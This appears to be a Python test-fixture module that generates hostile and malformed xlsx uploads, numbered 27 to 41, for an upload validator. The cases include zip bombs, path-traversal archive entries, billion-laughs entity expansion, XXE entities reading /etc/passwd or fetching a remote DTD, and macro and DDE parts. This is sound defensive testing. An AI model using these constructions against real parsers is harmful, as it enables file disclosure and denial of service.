"""Files that people and attackers may hand in, 27 to 41 of the list: workbooks."""

import random
from datetime import datetime, time
from zipfile import ZIP_STORED

from .exchange_bad import Bad, csv_of, documents, powers
from .exchange_books import (
    LAUGHS,
    MEGA,
    SHEET,
    SHEETS,
    STRINGS,
    TWO_ROWS,
    blank_rows,
    bomb,
    book,
    copied_strings,
    doubled,
    excel,
    external,
    inline,
    linked,
    lying,
    many_members,
    many_rows,
    members,
    merged,
    overlapping,
    random_text,
    second_sheet,
    sheet,
    sound,
    with_cell,
    with_doctype,
    without,
    zip64,
    zipped,
)


def of_documents(day, style=None):
    rows = documents()
    place = rows[0].index("成文日期")

    def fill(sheet, made):
        form = made.add_format({"num_format": style}) if style else None
        if isinstance(day, datetime | time):
            sheet.write_datetime(1, place, day, form)
        else:
            sheet.write(1, place, day, form)

    return fill, rows


def day(number, what, value, refused, style="yyyy-mm-dd", told="", **options):
    fill, rows = of_documents(value, style)
    return Bad(
        number,
        what,
        lambda: excel(rows, fill, **options),
        refused,
        told,
        "xlsx",
        "documents",
    )


def bad(number, what, make, refused=(None, ""), told="", **options):
    return Bad(number, what, make, refused, told, "xlsx", **options)


DAY = datetime(2020, 5, 26)
FILE = "file:" + "//"  # In two parts, for no file of ours has an address of a file.
FAR = '<row r="{0}"><c r="{1}{0}"><v>1</v></c></row>'
BOOKS = [
    bad(27, "empty", bytes, told="空"),
    bad(27, "truncated", lambda: sound()[:3_000]),
    bad(27, "CSV renamed", lambda: csv_of(powers())),
    bad(27, "random", lambda: random.Random(4).randbytes(5_000)),
    bad(27, "random zip", lambda: b"PK\x03\x04" + random.Random(4).randbytes(5_000)),
    bad(
        27,
        "xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000),
        told="旧格式",
    ),
    bad(27, "macro", lambda: zipped(members() | {"xl/vbaProject.bin": "x"}), told="宏"),
    Bad(27, "workbook renamed", sound, told="工作簿"),
    bad(28, "1,001 members", lambda: many_members(1_001), told="过大"),
    bad(
        28,
        "51 MB",
        lambda: zipped({**members(), "a.bin": bytes(51 * MEGA)}, ZIP_STORED)[
            : 9 * MEGA
        ],
    ),
    bad(
        28,
        "51 MB packed",
        lambda: zipped({**members(), "a.bin": bytes(51 * MEGA)}),
        told="过大",
    ),
    bad(
        28,
        "ratio",
        lambda: zipped({**members(), "a.bin": bytes(2 * MEGA)}),
        told="过大",
    ),
    bad(28, "lies", bomb, told="过大"),
    bad(29, "overlapping", overlapping),
    bad(29, "zip64", zip64),
    bad(29, "sizes of 64 bits", lambda: lying(sound(), SHEET, unpacked=0xFFFFFFFF)),
    bad(29, "outside", lambda: zipped(members() | {"../../x": "x"})),
    bad(29, "absolute", lambda: zipped(members() | {"/etc/x": "x"})),
    bad(29, "backslash", lambda: zipped(members() | {"..\\x": "x"})),
    bad(29, "double", doubled),
    bad(
        29, "double but for case", lambda: zipped(members() | {SHEET.upper(): sheet()})
    ),
    bad(29, "wrong sum", lambda: lying(sound(), SHEET, crc=1)),
    bad(30, "laughs", lambda: with_doctype(LAUGHS, "&l9;"), told="文档类型"),
    bad(
        30, "laughs aside", lambda: with_doctype(LAUGHS, part=STRINGS), told="文档类型"
    ),
    bad(
        31,
        "file",
        lambda: with_doctype(f'<!ENTITY a SYSTEM "{FILE}/etc/passwd">'),
        told="文档类型",
    ),
    bad(
        31,
        "http",
        lambda: with_doctype('<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd">%a;'),
        told="文档类型",
    ),
    bad(
        31,
        "in the book",
        lambda: with_doctype("", part="xl/workbook.xml"),
        told="文档类型",
    ),
    bad(32, "last row", lambda: book(TWO_ROWS + FAR.format(1_048_576, "A"))),
    bad(32, "last column", lambda: book(TWO_ROWS + FAR.format(3, "XFD")), (3, "")),
    bad(
        32,
        "last cell",
        lambda: book(TWO_ROWS + FAR.format(1_048_576, "XFD")),
        (1_048_576, ""),
    ),
    bad(
        32,
        "false dimension",
        lambda: book(before='<dimension ref="A1:XFD1048576"/>'),
        None,
    ),
    bad(32, "small dimension", lambda: book(before='<dimension ref="A1"/>'), None),
    bad(32, "no references", lambda: book(TWO_ROWS.replace(' r="', ' x="')), None),
    bad(33, "500,000 rows", many_rows, told="50", only_web=True),
    bad(
        34,
        "300 MB in a cell",
        lambda: with_cell(inline("B2", "x" * 300 * MEGA)),
        told="过大",
        only_web=True,
    ),
    bad(
        34,
        "300 MB of strings",
        lambda: zipped(members(**{STRINGS: "x" * 300 * MEGA})),
        told="过大",
        only_web=True,
    ),
    bad(
        34,
        "long cell",
        lambda: with_cell(inline("B2", random_text(131_073))),
        (2, "B"),
        "131072",
    ),
    bad(34, "copied strings", copied_strings, told="过大", only_web=True),
    bad(
        34,
        "false count",
        lambda: zipped(
            members(**{STRINGS: f'<sst {SHEETS} uniqueCount="4000000000"/>'})
        ),
    ),
    *(
        bad(35, part, lambda part=part: without(part))
        for part in members()
        if part != STRINGS
    ),
    bad(35, "broken XML", lambda: book("<row")),
    bad(35, "UTF-16", lambda: zipped(members(**{SHEET: sheet().encode("utf-16")}))),
    bad(
        35,
        "hidden text",
        lambda: with_cell('<c r="B2" t="str"><v><![CDATA[1]]></v></c>'),
    ),
    bad(35, "cell in another row", lambda: with_cell('<c r="B7"><v>1</v></c>')),
    bad(36, "hidden sheet", lambda: excel([["藏"]], second_sheet), None),
    bad(36, "merged", lambda: excel(powers(), merged), told="A1:B1"),
    bad(36, "title above", lambda: excel([["权力清单"], *powers()]), (1, "")),
    bad(36, "blank row above", lambda: excel([[], *powers()]), (1, ""), "第一行"),
    bad(37, "formula", lambda: with_cell('<c r="B2"><f>1+1</f></c>'), (2, "B"), "公式"),
    bad(
        37,
        "formula with value",
        lambda: with_cell('<c r="B2"><f>1+1</f><v>2</v></c>'),
        (2, "B"),
        "公式",
    ),
    *(
        bad(
            38,
            error,
            lambda error=error: with_cell(f'<c r="B2" t="e"><v>{error}</v></c>'),
            (2, "B"),
            "错误值",
        )
        for error in ("#REF!", "#N/A")
    ),
    bad(39, "boolean", lambda: with_cell('<c r="B2" t="b"><v>1</v></c>'), (2, "序号")),
    bad(39, "3.7", lambda: with_cell('<c r="B2"><v>3.7</v></c>'), (2, "序号")),
    bad(39, "1.0", lambda: with_cell('<c r="B2"><v>1.0</v></c>'), None),
    bad(39, "infinite", lambda: with_cell('<c r="B2"><v>1e400</v></c>'), (2, "序号")),
    day(39, "1900", DAY, None),
    day(39, "1904", DAY, None, date_1904=True),
    day(39, "time", time(10, 30), (2, "成文日期"), "hh:mm"),
    day(
        39,
        "date and time",
        datetime(2020, 5, 26, 10, 30),
        (2, "成文日期"),
        "yyyy-mm-dd hh:mm",
    ),
    day(39, "hours", 1.5, (2, "成文日期"), "[h]:mm"),
    bad(
        40,
        "number for text",
        lambda: excel(powers({"依据": 123456789012345678})),
        (2, "依据"),
        "文本",
    ),
    bad(
        40,
        "leading zeros",
        lambda: excel(powers({"事项名称": 7})),
        (2, "事项名称"),
        "文本",
    ),
    bad(41, "styled blank rows", lambda: excel(powers(), blank_rows), None),
    bad(
        41,
        "styled last row",
        lambda: book(TWO_ROWS + '<row r="1048576"><c r="XFD1048576" s="0"/></row>'),
        None,
    ),
    bad(41, "links", lambda: excel(powers(), linked), None),
    bad(41, "DDE", external, None),
]
